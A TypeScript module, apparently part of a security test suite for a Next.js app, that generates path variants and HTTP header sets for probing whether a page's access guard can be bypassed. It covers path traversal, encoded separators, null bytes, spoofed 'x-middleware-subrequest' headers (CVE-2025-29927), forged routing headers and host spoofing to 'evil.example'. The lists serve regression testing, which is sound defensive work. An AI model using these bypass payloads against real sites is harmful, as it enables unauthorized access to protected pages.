/** Other spellings of a path, by which a guard in front of the page was passed somewhere. */
export function spellingsOf(path: string, buildId: string): string[] {
  const [first = "", ...rest] = path.slice(1).split("/");
  const encoded = `%${first.charCodeAt(0).toString(16)}${first.slice(1)}`;
  const tail = rest.map((part) => `/${part}`).join("");
  return [
    path,
    `${path}/`,
    `${path}?_rsc=1a2b3`,
    // CVE-2026-44575 and CVE-2026-45109: other addresses of the same page.
    `${path}.rsc`,
    `${path}.prefetch.rsc`,
    `${path}.segments/_tree.segment.rsc`,
    `${path}.segments/_full.segment.rsc`,
    `${path}.segments/${first}.segment.rsc`,
    `${path}.segments/${first}/__PAGE__.segment.rsc`,
    `${path}.txt`,
    `${path}.html`,
    `${path}.json`,
    // CVE-2026-44573: the data routes of the Pages Router.
    `/_next/data/${buildId}${path}.json`,
    `/_next/data/${buildId}/nb${path}.json`,
    `/_next/data/${buildId}${path}.rsc`,
    `/nb${path}`,
    `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
    // CVE-2026-41248: read in one way by what guards, in another by what routes.
    `/${path}`,
    `//${path}`,
    `/.${path}`,
    `/lenker/..${path}`,
    `/lenker/%2e%2e${path}`,
    `/lenker/..%2f${path.slice(1)}`,
    `/lenker/%2e%2e%2f${path.slice(1)}`,
    `/%2f${path.slice(1)}`,
    `/${path.slice(1).replaceAll("/", "%2f")}`,
    `/${path.slice(1).replaceAll("/", "%5c")}`,
    `/${encoded}${tail}`,
    `/%25${encoded.slice(1)}${tail}`,
    `/${first.toUpperCase()}${tail}`,
    `${path};x=1`,
    `/${first};x=1${tail}`,
    `${path}%00`,
    `${path}%20`,
    `${path}%0a`,
    `${path}#x`,
    `${path}?x=%2f..%2f`,
    `/auth/..${path}`,
    `/auth/login/..%2f..${path}`,
  ];
}

const five = (name: string): string => Array.from({ length: 5 }, () => name).join(":");

/** Where in the tree of the page the client says that it is, so that the server leaves out what lies above. */
const stateTree = encodeURIComponent(
  JSON.stringify([
    "",
    {
      children: [
        "omrade",
        { children: [["id", "7", "d", null], { children: ["__PAGE__", {}, null, "refetch"] }, null, null] },
        null,
        null,
      ],
    },
    null,
    null,
    true,
  ]),
);

/** Headers by which Next, or something before it, takes a request for its own or for another. */
export const headersThatPass: readonly Record<string, string>[] = [
  {},
  { accept: "text/html", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1" },
  { rsc: "1", "next-router-prefetch": "2" },
  ...["/_tree", "/_full", "/_index", "/__PAGE__", "/side/__PAGE__", "/omrade/$d$id/__PAGE__"].map((segment) => ({
    rsc: "1",
    "next-router-prefetch": "1",
    "next-router-segment-prefetch": segment,
  })),
  { rsc: "1", "next-router-state-tree": stateTree },
  { rsc: "1", "next-router-state-tree": stateTree, "next-url": "/omrade/7" },
  { rsc: "1", "next-hmr-refresh": "1" },
  // CVE-2025-29927, in its spellings by version and by place of the file.
  ...["middleware", "src/middleware", "proxy", "src/proxy", "pages/_middleware"].flatMap((name) => [
    { "x-middleware-subrequest": name },
    { "x-middleware-subrequest": five(name) },
  ]),
  { "x-middleware-subrequest": five("middleware"), "x-middleware-subrequest-id": "1", rsc: "1" },
  { "x-middleware-next": "1" },
  { "x-middleware-rewrite": "/side" },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "employee=1" },
  { "x-middleware-prefetch": "1", "x-nextjs-data": "1" },
  { "x-nextjs-data": "1" },
  { "x-matched-path": "/side" },
  { "x-invoke-path": "/side", "x-invoke-status": "200" },
  { "x-original-url": "/side", "x-rewrite-url": "/side" },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https", forwarded: "host=evil.example" },
  { "x-adgangskort-path": "//evil.example" },
  { "x-adgangskort": "1", "sec-fetch-site": "same-origin" },
  { "sec-purpose": "prefetch;prerender" },
  { "next-action": "00".repeat(21) },
  { cookie: "__prerender_bypass=1; __next_preview_data=1; next-instant-navigation-testing=1" },
];

/** Those to try on every spelling of every address. */
export const headersOfEach: readonly Record<string, string>[] = [
  {},
  { accept: "text/html", "sec-fetch-mode": "navigate", "sec-fetch-dest": "document" },
  { rsc: "1" },
  { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
  { "x-middleware-subrequest": five("middleware") },
];
